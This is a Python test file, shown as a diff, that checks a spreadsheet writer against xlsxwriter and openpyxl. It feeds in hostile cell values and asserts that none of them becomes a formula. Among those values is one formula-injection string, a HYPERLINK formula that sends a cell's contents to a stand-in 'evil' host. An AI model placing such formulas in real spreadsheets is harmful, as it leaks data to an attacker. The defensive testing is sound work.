@@ -1,0 +1,153 @@
+"""The column-at-once .xlsx writer against xlsxwriter's own cell-by-cell output, and against openpyxl.
+
+The worksheet XML must be byte for byte what xlsxwriter writes in ``constant_memory`` mode for the
+same cells (the writer the worklist used before), hostile values included; openpyxl must read
+every value back as it went in.
+"""
+
+from __future__ import annotations
+
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import polars as pl
+import pytest
+import xlsxwriter
+
+from datavask.connectors import xlsx
+from datavask.connectors.xlsx import Sheet, write_xlsx
+
+HOSTILE = [
+    "plain",
+    None,
+    "",
+    '=HYPERLINK("http://evil/?"&A1)',
+    "+4512345678",
+    "-2+3",
+    "@SUM(A1)",
+    " leading space",
+    "trailing tab\t",
+    "line\nbreak",
+    "carriage\rreturn",
+    "bell\x07 and nul\x00",
+    "_x0041_ looks like an escape",
+    "<b>&amp;</b> \"quoted\" 'single'",
+    "Ærø Å ø 😀",
+    "\ufffe\uffff",
+    "x" * 40_000,
+]
+
+
+def _frame() -> pl.DataFrame:
+    n = len(HOSTILE)
+    return pl.DataFrame(
+        {
+            "text": HOSTILE,
+            "link": [
+                None if i % 3 else f"https://datacvr.virk.dk/enhed/virksomhed/{i:08d}"
+                for i in range(n)
+            ],
+            "score": [None, 0.1 + 0.2, 1.0, 1e-7, 123456789.125, 2.0 / 3.0, *([0.5] * (n - 6))],
+            "count": list(range(n)),
+            "=weird header<&>": ["z"] * n,
+        }
+    )
+
+
+def _xlsxwriter_book(path: Path, sheets: list[Sheet]) -> None:
+    """The worklist's former writer: xlsxwriter, constant_memory, one call per cell."""
+    options = {"strings_to_formulas": False, "strings_to_urls": False,
+               "strings_to_numbers": False, "constant_memory": True}  # fmt: skip
+    book = xlsxwriter.Workbook(str(path), options)
+    header = book.add_format(
+        {"bold": True, "bg_color": "#E8EDF3", "bottom": 1, "text_wrap": True, "valign": "top"}
+    )
+    wrap = book.add_format({"valign": "top"})
+    for spec in sheets:
+        frame = spec.frame
+        sheet = book.add_worksheet(spec.name)
+        for i, width in enumerate(spec.widths):
+            sheet.set_column(i, i, width, wrap)
+        sheet.write_row(0, 0, frame.columns, header)
+        sheet.freeze_panes(1, 0)
+        sheet.autofilter(0, 0, max(frame.height, 1), max(frame.width - 1, 0))
+        link = frame.columns.index(spec.link) if spec.link in frame.columns else None
+        for r, row in enumerate(frame.iter_rows(), start=1):
+            for c, value in enumerate(row):
+                if value is None:
+                    continue
+                if c == link and r <= xlsx.MAX_URLS:
+                    sheet.write_url(r, c, value, string=value)
+                elif isinstance(value, str):
+                    text = (
+                        value if len(value) <= xlsx.MAX_CELL else value[: xlsx.MAX_CELL - 1] + "…"
+                    )
+                    sheet.write_string(r, c, text)
+                else:
+                    sheet.write(r, c, value)
+    book.close()
+
+
+def _parts(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as book:
+        return {name: book.read(name) for name in book.namelist() if "docProps" not in name}
+
+
+def test_sheets_are_byte_for_byte_what_xlsxwriter_writes(tmp_path: Path) -> None:
+    frame = _frame()
+    sheets = [
+        Sheet("Første ark", frame, widths=[12, 60, 60, 9.5, 30], link="link"),
+        Sheet("empty", frame.clear(), widths=[10] * 5, link="link"),
+        Sheet("no link", frame.drop("link"), widths=[20, 20, 8, 8]),
+    ]
+    ours = _parts(write_xlsx(tmp_path / "ours.xlsx", sheets))
+    _xlsxwriter_book(tmp_path / "theirs.xlsx", sheets)
+    theirs = _parts(tmp_path / "theirs.xlsx")
+    for name in theirs:
+        if name.startswith(("xl/worksheets/", "xl/styles", "xl/workbook", "xl/theme")):
+            assert ours[name] == theirs[name], name
+
+
+def test_values_read_back_as_written_and_nothing_is_a_formula(tmp_path: Path) -> None:
+    frame = _frame()
+    path = write_xlsx(tmp_path / "book.xlsx", [Sheet("s", frame, widths=[10] * 5, link="link")])
+    sheet = openpyxl.load_workbook(path)["s"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0] == tuple(frame.columns)
+    texts = [row[0] for row in rows[1:]]
+    expected: list[Any] = [
+        v if v is None or len(v) <= xlsx.MAX_CELL else v[: xlsx.MAX_CELL - 1] + "…" for v in HOSTILE
+    ]
+    # openpyxl gives back Excel's _xHHHH_ escapes as written; decode them as Excel does
+    decoded = [_excel_unescape(t) if isinstance(t, str) else t for t in texts]
+    assert decoded == [None if v is None else v for v in expected]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    # numbers as xlsxwriter's write_number gives them to Excel: 16 significant digits
+    scores = [None, 0.1 + 0.2, 1.0, 1e-7, 123456789.125, 2.0 / 3.0]
+    assert [row[2] for row in rows[1:7]] == [None] + [float(f"{v:.16G}") for v in scores[1:]]
+    links = [c.hyperlink.target for c in sheet["B"] if c.hyperlink]
+    assert links == [v for v in frame["link"] if v]
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:E{frame.height + 1}"
+
+
+def test_links_stop_at_excels_limit_and_long_sheets_stream(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(xlsx, "MAX_URLS", 5)
+    monkeypatch.setattr(xlsx, "CHUNK_ROWS", 4)
+    frame = pl.DataFrame(
+        {"url": [f"https://example.org/{i}" for i in range(11)], "n": list(range(11))}
+    )
+    path = write_xlsx(tmp_path / "book.xlsx", [Sheet("s", frame, widths=[30, 8], link="url")])
+    sheet = openpyxl.load_workbook(path)["s"]
+    assert [c.value for c in sheet["A"]][1:] == frame["url"].to_list()
+    assert [c.row for c in sheet["A"] if c.hyperlink] == [2, 3, 4, 5, 6]
+
+
+def _excel_unescape(text: str) -> str:
+    import re
+
+    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)
